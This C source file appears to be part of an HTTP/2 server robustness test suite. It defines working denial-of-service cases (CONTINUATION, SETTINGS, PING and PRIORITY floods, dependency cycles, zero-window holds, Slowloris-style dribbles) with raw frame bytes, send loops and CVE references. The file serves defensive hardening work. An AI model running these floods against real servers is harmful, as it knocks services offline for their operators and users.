// abuse/h2_floods.c: frames that are cheap to send, in great number, and streams that are held open.
#include "abuse/cases.h"
#include "abuse/wire.h"

#include <stdlib.h>

enum {
    FRAMES_ROOM = 65536,
    HELD_STREAMS = 200,
    DRIP_US = 100000,
    SETTINGS_IN_A_FRAME = 2000,
};

// Frames as they are, over and over: the case's bytes.
static void put_bytes(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    (void)i;
    weft_write_bytes(out, play->which->bytes);
}

static void open_upload(struct weft_writer *out, const struct weft_abuse_play *play)
{
    weft_abuse_put_upload(out, play, 1);
}

// HEADERS whose block goes on.
static void open_block(struct weft_writer *out, const struct weft_abuse_play *play)
{
    uint8_t room[FRAMES_ROOM / 4];
    struct weft_writer block = weft_writer_over(room, sizeof(room));
    weft_abuse_put_block(&block, play, "GET", play->target->path);
    weft_abuse_put_frame(out, WEFT_ABUSE_HEADERS, WEFT_ABUSE_END_STREAM, 1, weft_written(&block));
}

static void put_large_continuation(struct weft_writer *out, const struct weft_abuse_play *play,
                                   uint32_t i)
{
    uint8_t room[16000];
    struct weft_writer block = weft_writer_over(room, sizeof(room));
    (void)play;
    (void)i;
    weft_write_bytes(&block,
                     WEFT_SPAN("\0\1x\x7f\x80\x7a")); // a value of 15743 bytes, which follows
    while (weft_writer_size(&block) < 15749) {
        weft_write_u8(&block, 'a');
    }
    weft_abuse_put_frame(out, WEFT_ABUSE_CONTINUATION, 0, 1, weft_written(&block));
}

static void put_many_settings(struct weft_writer *out, const struct weft_abuse_play *play,
                              uint32_t i)
{
    uint8_t room[6 * SETTINGS_IN_A_FRAME];
    struct weft_writer payload = weft_writer_over(room, sizeof(room));
    (void)play;
    (void)i;
    for (int k = 0; k < SETTINGS_IN_A_FRAME; k++) {
        weft_write_bytes(&payload, WEFT_SPAN("\0\x04\0\0\0\1"));
    }
    weft_abuse_put_frame(out, WEFT_ABUSE_SETTINGS, 0, 0, weft_written(&payload));
}

static void put_idle_update(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    uint8_t room[8];
    struct weft_writer payload = weft_writer_over(room, sizeof(room));
    (void)play;
    weft_write_u32(&payload, 2 * i + 1);
    weft_write_bytes(&payload, WEFT_SPAN("u=1"));
    weft_abuse_put_frame(out, WEFT_ABUSE_PRIORITY_UPDATE, 0, 0, weft_written(&payload));
}

// A chain: each stream depends on the one before it, and the first is then hung below the last.
static void put_chain(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    uint8_t room[5];
    struct weft_writer payload = weft_writer_over(room, sizeof(room));
    (void)play;
    weft_write_u32(&payload, i % 100 == 99 ? 2 * i + 1 : 2 * i + 3);
    weft_write_u8(&payload, (uint8_t)i);
    uint32_t stream = i % 100 == 99 ? 2 * (i - 99) + 1 : 2 * i + 5;
    weft_abuse_put_frame(out, WEFT_ABUSE_PRIORITY, 0, stream, (struct weft_span){room, 5});
}

static void put_stream(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_download(out, play, 2 * i + 1);
}

// Empty names, of which memory was once kept.
static void put_empty_names(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t i)
{
    weft_abuse_put_request(out, play, 2 * i + 1, WEFT_ABUSE_WHOLE,
                           WEFT_SPAN("\0\0\1a\0\0\1a\0\0\1a\0\0\1a"));
}

enum {
    BYTES,
    BYTES_DEAF,
    IN_UPLOAD,
    IN_BLOCK,
    LARGE,
    SETTINGS,
    IDLE_UPDATES,
    CHAIN,
    STREAMS,
    NAMES
};

static const struct weft_abuse_flood floods[] = {
    [BYTES] = {.protocol = WEFT_ABUSE_H2, .piece = put_bytes},
    [BYTES_DEAF] = {.protocol = WEFT_ABUSE_H2, .piece = put_bytes, .is_deaf = true},
    [IN_UPLOAD] = {.protocol = WEFT_ABUSE_H2, .open = open_upload, .piece = put_bytes},
    [IN_BLOCK] = {.protocol = WEFT_ABUSE_H2, .open = open_block, .piece = put_bytes},
    [LARGE] = {.protocol = WEFT_ABUSE_H2, .open = open_block, .piece = put_large_continuation},
    [SETTINGS] = {.protocol = WEFT_ABUSE_H2, .piece = put_many_settings},
    [IDLE_UPDATES] = {.protocol = WEFT_ABUSE_H2, .piece = put_idle_update},
    [CHAIN] = {.protocol = WEFT_ABUSE_H2, .piece = put_chain},
    [STREAMS] = {WEFT_ABUSE_H2, WEFT_SPAN_INIT("\0\x04\0\0\0\0"), NULL, put_stream, false, false},
    [NAMES] = {.protocol = WEFT_ABUSE_H2, .piece = put_empty_names},
};

static void play_flood(struct weft_abuse_play *play)
{
    weft_abuse_play_flood(play, &floods[play->which->number]);
}

// What a crowd says once all of it is connected, and what each repeats every 0.1 s.
struct crowd {
    struct weft_span settings;
    uint32_t streams;
    void (*stream)(struct weft_writer *out, const struct weft_abuse_play *play, uint32_t stream);
    struct weft_span behind;
    struct weft_span drip;
    size_t most; // connections
    bool is_deaf;
};

static void begin(struct weft_abuse_link *link, const struct crowd *crowd, uint8_t *room)
{
    struct weft_writer out = weft_writer_over(room, FRAMES_ROOM);
    link->is_deaf = crowd->is_deaf;
    for (uint32_t i = 0; i < crowd->streams; i++) {
        crowd->stream(&out, link->play, 2 * i + 1);
        if (weft_writer_size(&out) < FRAMES_ROOM / 2) continue;
        (void)weft_abuse_send(link, weft_written(&out));
        out = weft_writer_over(room, FRAMES_ROOM);
    }
    weft_write_bytes(&out, crowd->behind);
    (void)weft_abuse_send(link, weft_written(&out));
}

static void put_block_start(struct weft_writer *out, const struct weft_abuse_play *play,
                            uint32_t stream)
{
    (void)stream;
    open_block(out, play);
}

enum {
    ZERO_WINDOWS,
    ZERO_WINDOWS_PINGS,
    SLOW_READERS,
    DRIBBLE,
    SLOW_UPLOAD,
    UPLOADS,
    SLOW_BLOCK,
    IDLE_PINGS,
    SILENT
};

static const struct crowd crowds[] = {
    [ZERO_WINDOWS] = {WEFT_SPAN_INIT("\0\x04\0\0\0\0"),
                      HELD_STREAMS,
                      weft_abuse_put_download,
                      {0},
                      {0},
                      50,
                      false},
    [ZERO_WINDOWS_PINGS] = {WEFT_SPAN_INIT("\0\x04\0\0\0\0"),
                            HELD_STREAMS,
                            weft_abuse_put_download,
                            {0},
                            WEFT_SPAN_INIT("\0\0\x04\x08\0\0\0\0\0\0\0\0\1"),
                            50,
                            false},
    [SLOW_READERS] = {WEFT_SPAN_INIT("\0\x04\x7f\xff\xff\xff"),
                      100,
                      weft_abuse_put_download,
                      WEFT_SPAN_INIT("\0\0\x04\x08\0\0\0\0\0\x7f\0\0\0"),
                      {0},
                      WEFT_ABUSE_LINKS_MOST,
                      true},
    [DRIBBLE] = {WEFT_SPAN_INIT("\0\x04\0\0\0\0"),
                 1,
                 weft_abuse_put_download,
                 {0},
                 WEFT_SPAN_INIT("\0\0\x04\x08\0\0\0\0\1\0\0\0\1"),
                 WEFT_ABUSE_LINKS_MOST,
                 false},
    [SLOW_UPLOAD] = {{0},
                     1,
                     weft_abuse_put_upload,
                     {0},
                     WEFT_SPAN_INIT("\0\0\1\0\0\0\0\0\1x"),
                     WEFT_ABUSE_LINKS_MOST,
                     false},
    [UPLOADS] = {{0}, 100, weft_abuse_put_upload, {0}, {0}, 50, false},
    [SLOW_BLOCK] = {{0},
                    1,
                    put_block_start,
                    {0},
                    WEFT_SPAN_INIT("\0\0\1\x09\0\0\0\0\1\x90"),
                    WEFT_ABUSE_LINKS_MOST,
                    false},
    [IDLE_PINGS] = {{0},
                    0,
                    NULL,
                    {0},
                    WEFT_SPAN_INIT("\0\0\x08\6\0\0\0\0\0"
                                   "12345678"),
                    WEFT_ABUSE_LINKS_MOST,
                    false},
    [SILENT] = {{0}, 0, NULL, {0}, {0}, WEFT_ABUSE_LINKS_MOST, false},
};

// Until the server's time limits end it.
static void play_crowd(struct weft_abuse_play *play)
{
    const struct crowd *crowd = &crowds[play->which->number];
    static uint8_t room[FRAMES_ROOM];
    size_t most = play->budget.crowd < crowd->most ? play->budget.crowd : crowd->most;
    struct weft_abuse_link *links = calloc(most, sizeof(*links));
    if (!links) return;
    size_t count = 0;
    for (; count < most; count++) {
        if (!weft_abuse_h2_open(play, &links[count], crowd->settings)) break;
        begin(&links[count], crowd, room);
    }
    uint64_t until_us = weft_abuse_now_us() + play->budget.limit_us;
    while (weft_abuse_now_us() < until_us && weft_abuse_listen_all(links, count, DRIP_US) > 0) {
        for (size_t i = 0; i < count && crowd->drip.size > 0; i++) {
            (void)weft_abuse_send(&links[i], crowd->drip);
        }
    }
    weft_abuse_close_all(links, count);
    free(links);
}

// SETTINGS that nobody acknowledges, and a preface that is not finished.
static void play_unfinished(struct weft_abuse_play *play)
{
    struct weft_abuse_link *links = calloc(WEFT_ABUSE_LINKS_MOST, sizeof(*links));
    if (!links) return;
    size_t count = 0;
    for (; count < play->budget.crowd; count++) {
        if (!weft_abuse_open(play, &links[count], WEFT_ABUSE_H2)) break;
        (void)weft_abuse_send(&links[count], play->which->bytes);
    }
    uint64_t until_us = weft_abuse_now_us() + play->budget.limit_us;
    while (weft_abuse_now_us() < until_us && weft_abuse_listen_all(links, count, DRIP_US) > 0)
        continue;
    weft_abuse_close_all(links, count);
    free(links);
}

#define ROW(id, name, cve, sent, rule, flood, bytes)                                              \
    {                                                                                             \
        "h2/" id, name, cve, sent, WEFT_ABUSE_##rule, 0, play_flood, WEFT_SPAN_INIT(bytes), flood \
    }
#define HELD(id, name, cve, sent, need, crowd)                                          \
    {                                                                                   \
        "h2/" id, name, cve, sent, WEFT_ABUSE_TIMED, need, play_crowd, {NULL, 0}, crowd \
    }
#define START(id, name, sent, bytes)                                                   \
    {                                                                                  \
        "h2/" id, name, "", sent, WEFT_ABUSE_TIMED, WEFT_ABUSE_CROWD, play_unfinished, \
            WEFT_SPAN_INIT(bytes), 0                                                   \
    }
#define CROWD WEFT_ABUSE_CROWD

// clang-format off
static const struct weft_abuse_case cases[] = {
    //                                                                                                    length type flags stream
    ROW("continuation", "CONTINUATION flood", "CVE-2024-27316, CVE-2024-28182, CVE-2023-45288", "CONTINUATIONs of 16 KB without end", ENDED, LARGE, ""),
    ROW("continuation-byte", "CONTINUATION flood", "CVE-2024-27983, CVE-2024-30255", "CONTINUATIONs of a byte without end", ENDED, IN_BLOCK, "\0\0\1\x09\0\0\0\0\1\x90"),
    ROW("continuation-empty", "CONTINUATION flood", "CVE-2024-24549", "empty CONTINUATIONs without end", ENDED, IN_BLOCK, "\0\0\0\x09\0\0\0\0\1"),
    ROW("settings", "SETTINGS flood", "CVE-2019-9515", "empty SETTINGS", BOUNDED, BYTES, "\0\0\0\4\0\0\0\0\0"),
    ROW("settings-window", "SETTINGS flood", "CVE-2019-9515", "SETTINGS that move all windows", BOUNDED, BYTES, "\0\0\x0c\4\0\0\0\0\0\0\4\0\0\0\1\0\4\0\1\0\0"),
    ROW("settings-entries", "SETTINGS flood", "CVE-2020-11080", "SETTINGS of 2,000 entries", BOUNDED, SETTINGS, ""),
    ROW("settings-deaf", "SETTINGS flood", "CVE-2019-9515", "empty SETTINGS, nothing read", BOUNDED, BYTES_DEAF, "\0\0\0\4\0\0\0\0\0"),
    ROW("settings-ack", "SETTINGS flood", "", "acknowledgements of nothing", BOUNDED, BYTES, "\0\0\0\4\1\0\0\0\0"),
    ROW("ping", "PING flood", "CVE-2019-9512", "PINGs", BOUNDED, BYTES, "\0\0\x08\6\0\0\0\0\0" "12345678"),
    ROW("ping-deaf", "PING flood", "CVE-2019-9512", "PINGs, nothing read", BOUNDED, BYTES_DEAF, "\0\0\x08\6\0\0\0\0\0" "12345678"),
    ROW("ping-ack", "PING flood", "", "acknowledgements of nothing", BOUNDED, BYTES, "\0\0\x08\6\1\0\0\0\0" "12345678"),
    ROW("priority", "PRIORITY flood, resource loop", "CVE-2019-9513", "PRIORITY of a stream", BOUNDED, BYTES, "\0\0\5\2\0\0\0\0\1\0\0\0\3\x10"),
    ROW("priority-chain", "dependency cycles", "CVE-2015-8659", "chains of PRIORITY that end in themselves", BOUNDED, CHAIN, ""),
    ROW("priority-update", "PRIORITY_UPDATE flood", "", "PRIORITY_UPDATE of a stream", BOUNDED, BYTES, "\0\0\7\x10\0\0\0\0\0\0\0\0\1u=1"),
    ROW("priority-update-idle", "PRIORITY_UPDATE flood", "", "PRIORITY_UPDATEs of streams to come", BOUNDED, IDLE_UPDATES, ""),
    ROW("window-update", "WINDOW_UPDATE flood", "", "windows opened by a byte each", BOUNDED, BYTES, "\0\0\4\x08\0\0\0\0\0\0\0\0\1"),
    ROW("empty-data", "empty frames", "CVE-2019-9518", "empty DATA without END_STREAM", BOUNDED, IN_UPLOAD, "\0\0\0\0\0\0\0\0\1"),
    ROW("padding-data", "padding abuse", "", "DATA of 255 bytes of padding", BOUNDED, IN_UPLOAD, "\0\0\2\0\x08\0\0\0\1\1\0"),
    ROW("byte-data", "content of a byte a frame", "", "DATA of a byte", BOUNDED, IN_UPLOAD, "\0\0\1\0\0\0\0\0\1x"),
    ROW("empty-names", "empty names leak", "CVE-2019-9516", "requests with fields without names", BOUNDED, NAMES, ""),
    ROW("unknown", "frames of unknown types", "", "frames of type 0xbe", BOUNDED, BYTES, "\0\0\x08\xbe\0\0\0\0\0" "12345678"),
    ROW("goaway", "GOAWAY flood", "", "GOAWAYs", BOUNDED, BYTES, "\0\0\x08\7\0\0\0\0\0\0\0\0\0\0\0\0\0"),
    ROW("streams", "streams beyond the limit", "", "requests without end that cannot be answered for want of a window", BOUNDED, STREAMS, ""),
    HELD("zero-windows", "zero windows", "CVE-2026-49975, CVE-2019-9517", "200 requests each, no window", WEFT_ABUSE_OPEN, ZERO_WINDOWS),
    HELD("zero-windows-kept", "zero windows, kept alive", "CVE-2026-49975", "the same, and the connection's window opened every 0.1 s", WEFT_ABUSE_OPEN, ZERO_WINDOWS_PINGS),
    HELD("slow-readers", "slow readers, internal buffering", "CVE-2019-9517", "100 requests each, windows wide open, nothing read", WEFT_ABUSE_OPEN, SLOW_READERS),
    HELD("dribble", "data dribble", "CVE-2019-9511", "a window that opens by a byte every 0.1 s", CROWD, DRIBBLE),
    HELD("slow-body", "slow content, R.U.D.Y.", "", "content, a byte every 0.1 s", CROWD, SLOW_UPLOAD),
    HELD("uploads", "uploads that do not come", "", "100 uploads each, no content", WEFT_ABUSE_OPEN, UPLOADS),
    HELD("slow-block", "slow heads, Slowloris", "", "a field block, a byte every 0.1 s", CROWD, SLOW_BLOCK),
    HELD("idle", "connection exhaustion", "", "connections that ask for nothing", CROWD, SILENT),
    HELD("idle-pings", "connection exhaustion", "", "connections that send PING and nothing else", CROWD, IDLE_PINGS),
    START("no-ack", "SETTINGS that are not acknowledged", "a preface and SETTINGS, then nothing", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"),
    START("half-preface", "half a preface", "half of the preface, then nothing", "PRI * HTTP/2.0\r\n"),
};
// clang-format on

const struct weft_abuse_table weft_abuse_h2_floods = {cases, WEFT_COUNT(cases)};
